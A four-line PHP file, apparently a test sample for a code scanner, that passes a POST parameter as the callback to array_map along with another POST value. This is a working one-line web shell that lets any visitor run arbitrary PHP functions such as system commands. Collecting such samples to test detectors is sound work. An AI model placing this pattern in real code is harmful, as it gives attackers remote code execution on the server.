<?php
// test sample: callback API with attacker-chosen callee
$arr = array($_POST['payload']);
array_map($_POST['fn'], $arr);
